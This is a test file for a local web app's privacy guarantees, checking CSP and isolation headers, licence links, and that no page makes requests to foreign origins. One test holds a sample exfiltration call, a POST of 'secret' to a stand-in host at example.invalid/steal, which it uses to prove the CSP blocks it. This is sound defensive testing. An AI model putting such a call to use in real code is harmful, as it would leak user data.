import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSP, HEADER_CSP } from '../scripts/security-headers.mjs';
import { TOOLS } from '../src/tools/registry';
import { foreignRequests, openApp, type AppSession } from './support/app';
import { tr } from './support/locales';

describe('privacy, enforced', () => {
  let app: AppSession;
  beforeAll(async () => {
    app = await openApp();
  });
  afterAll(async () => {
    await app.close();
  });

  it('sends the CSP and isolation headers and puts the CSP in the built page', async () => {
    const response = await app.page.goto('/svg/svg-to-png');
    const headers = response!.headers();
    expect(headers['content-security-policy']).toBe(HEADER_CSP);
    // No other site may frame the app (clickjacking): only a header can say so, and old browsers read X-Frame-Options.
    expect(headers['content-security-policy']).toBe(`${CSP}; frame-ancestors 'none'`);
    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
    expect(await app.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CSP);
    expect(CSP).not.toContain("'unsafe-eval'");
    expect(CSP).not.toMatch(/https?:/);
    expect(await app.page.evaluate(() => window.crossOriginIsolated)).toBe(true);
  });

  it('links the source code and the third-party licences, which the build serves as text', async () => {
    await app.page.goto('/privacy');
    const { repository } = JSON.parse(readFileSync('package.json', 'utf8')) as { repository: string };
    expect(await app.page.getByTestId('privacy-source-link').getAttribute('href')).toBe(repository);
    expect(await app.page.getByTestId('privacy-source-link').textContent()).toBe(tr('en', 'privacy.openSource.source'));
    const notices = app.page.getByTestId('notices-link');
    expect(await notices.textContent()).toBe(tr('en', 'privacy.openSource.notices'));
    const response = await app.page.request.get(`${app.baseURL}${await notices.getAttribute('href')}`);
    expect(response.headers()['content-type']).toMatch(/^text\/plain/);
    const text = await response.text();
    expect(text).toMatch(/^Third-party software in Localkit/);
    expect(text).toContain('Package: react@');
  });

  it('blocks a request to another origin even if code tried one', async () => {
    await app.page.goto('/');
    await app.page.getByTestId('home-title').waitFor();
    const blocked = await app.page.evaluate(async () => {
      try {
        await fetch('http://example.invalid/steal', { method: 'POST', body: 'secret' });
        return false;
      } catch {
        return true;
      }
    });
    expect(blocked).toBe(true);
    app.errors.length = 0; // the CSP violation is logged as a console error, as it should be
  });

  it('makes no request outside its own origin on any page', async () => {
    app.requests.length = 0;
    // Every page by a full load, two tabs at a time: each load ends with half a second of network quiet, so the
    // walk is mostly waiting (57 s in one tab, over its old 60 s limit on a loaded machine).
    const paths = ['/', '/privacy', '/missing', ...TOOLS.map((t) => t.path)];
    const second = await app.context.newPage();
    await Promise.all(
      [app.page, second].map(async (page) => {
        for (let path = paths.shift(); path !== undefined; path = paths.shift()) {
          await page.goto(path);
          await page.waitForLoadState('networkidle');
        }
      }),
    );
    await second.close();
    expect(app.requests.length).toBeGreaterThan(0);
    // example.invalid from the test above was blocked by the CSP before it left the page.
    expect(foreignRequests(app).filter((u) => !u.startsWith('http://example.invalid'))).toEqual([]);
    expect(app.errors).toEqual([]);
  }, 180_000);
});
